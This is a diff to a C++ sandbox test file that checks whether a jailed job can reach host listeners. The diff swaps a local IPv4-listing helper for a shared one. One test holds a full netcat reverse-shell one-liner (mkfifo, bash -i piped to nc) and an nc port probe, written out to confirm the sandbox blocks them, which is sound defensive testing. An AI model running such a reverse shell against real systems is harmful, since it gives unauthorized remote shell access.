@@ -16,26 +16,12 @@
 #include "runner/base/temp_dir.h"
 #include "runner/base/unique_fd.h"
 #include "runner/network/job_network.h"
+#include "tests/support/host_addresses.h"
 
 namespace nixjail::executor {
 namespace {
 
 namespace fs = std::filesystem;
-
-std::vector<std::string> ipv4Addresses() {
-    std::vector<std::string> out;
-    ifaddrs* list = nullptr;
-    if (::getifaddrs(&list) != 0) return out;
-    for (auto* i = list; i; i = i->ifa_next) {
-        if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET) continue;
-        char buf[INET_ADDRSTRLEN];
-        ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf,
-                    sizeof buf);
-        out.push_back(buf);
-    }
-    ::freeifaddrs(list);
-    return out;
-}
 
 // A host service on 0.0.0.0 (a metrics port, a database) that must never see the job.
 class AnyAddressListener {
@@ -112,7 +98,7 @@ class JobNetworkAttack : public ::testing::Test {
 
 TEST_F(JobNetworkAttack, HostListenerIsUnreachableByIpDirectlyAndThroughTheProxy) {
     AnyAddressListener listener;
-    for (const auto& ip : ipv4Addresses()) {
+    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
         const std::string target = ip + ":" + listener.port();
         auto direct = sh("nc.openbsd -z -w 3 " + ip + " " + listener.port() +
                          " && echo reached || echo refused");
@@ -131,13 +117,13 @@ TEST_F(JobNetworkAttack, HostListenerIsUnreachableByIpDirectlyAndThroughTheProxy
     EXPECT_FALSE(listener.acceptedAnything());
     network_->stop();
     auto records = network_->takeAuditRecords();
-    EXPECT_EQ(records.size(), 2 * ipv4Addresses().size());
+    EXPECT_EQ(records.size(), 2 * nixjail::tests::hostIPv4Addresses().size());
     for (const auto& r : records) EXPECT_EQ(r.decision, proxy::PolicyDecision::kDeny) << r.host;
 }
 
 TEST_F(JobNetworkAttack, ReverseShellWithNcFailsDirectlyAndThroughTheProxy) {
     AnyAddressListener listener;
-    for (const auto& ip : ipv4Addresses()) {
+    for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
         auto direct =
             sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | nc.openbsd -v -w 3 " + ip +
                " " + listener.port() + " > /tmp/f; echo nc-exit=${PIPESTATUS[2]}");
